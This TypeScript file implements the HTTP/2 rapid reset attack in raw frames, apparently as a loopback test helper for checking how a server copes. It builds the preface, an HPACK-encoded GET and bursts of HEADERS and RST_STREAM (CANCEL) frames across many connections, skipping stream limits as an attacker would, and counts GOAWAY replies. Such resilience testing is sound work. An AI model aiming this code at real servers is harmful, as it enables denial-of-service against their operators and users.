import * as net from "node:net";

/**
 * HTTP/2 rapid reset as an attacker writes it, in raw frames (a client library would
 * queue streams past the server's SETTINGS_MAX_CONCURRENT_STREAMS; an attacker does not):
 * on each of `connections` fresh connections, the preface, an empty SETTINGS, then
 * `streams` pairs of HEADERS (a GET of `path`, END_STREAM) and RST_STREAM (CANCEL),
 * written at once. Each connection stays open `holdMs` after its frames were written (an
 * attacker does not hang up: that would end the server's work for it), then is destroyed.
 * Resolves when every connection is closed. Loopback only: `port` on 127.0.0.1.
 */
export async function rapidReset(
  port: number,
  path: string,
  connections: number,
  streams: number,
  holdMs: number,
  /** Send the preface alone first, and the streams only once the server's SETTINGS came: they then reach Node in reads of their own. */
  split = false,
): Promise<{ written: number; goaways: number }> {
  let goaways = 0;
  let written = 0;
  await Promise.all(
    Array.from({ length: connections }, () =>
      new Promise<void>((resolve) => {
        const socket = net.connect(port, "127.0.0.1");
        let pending = Buffer.alloc(0);
        let sent = false;
        const sendStreams = () => {
          if (sent) return;
          sent = true;
          const frames: Buffer[] = [];
          const headers = requestHeaders(path, `127.0.0.1:${port}`);
          for (let i = 0; i < streams; i++) {
            const id = 2 * i + 1;
            frames.push(frame(0x1, 0x4 | 0x1, id, headers), frame(0x3, 0, id, CANCEL));
          }
          socket.write(Buffer.concat(frames), () => {
            written += streams;
            setTimeout(() => socket.destroy(), holdMs);
          });
        };
        socket.on("data", (chunk: Buffer) => {
          if (split) sendStreams();
          pending = Buffer.concat([pending, chunk]);
          while (pending.length >= 9) {
            const length = pending.readUIntBE(0, 3);
            if (pending.length < 9 + length) break;
            if (pending[3] === 0x7) goaways++;
            pending = pending.subarray(9 + length);
          }
        });
        socket.on("error", () => {});
        socket.on("close", () => resolve());
        socket.on("connect", () => {
          const start = Buffer.concat([PREFACE, frame(0x4, 0, 0, Buffer.alloc(0))]);
          if (split) socket.write(start);
          else socket.cork(), socket.write(start), sendStreams(), socket.uncork();
        });
      }),
    ),
  );
  return { written, goaways };
}

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const CANCEL = Buffer.from([0, 0, 0, 0x8]);

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK: :method GET and :scheme http from the static table, :path and :authority as literals without indexing. */
function requestHeaders(path: string, authority: string): Buffer {
  const literal = (nameIndex: number, value: string) => {
    const bytes = Buffer.from(value, "latin1");
    if (bytes.length > 126) throw new Error("header value too long for this encoder");
    return Buffer.concat([Buffer.from([nameIndex, bytes.length]), bytes]);
  };
  return Buffer.concat([Buffer.from([0x82, 0x86]), literal(0x04, path), literal(0x01, authority)]);
}
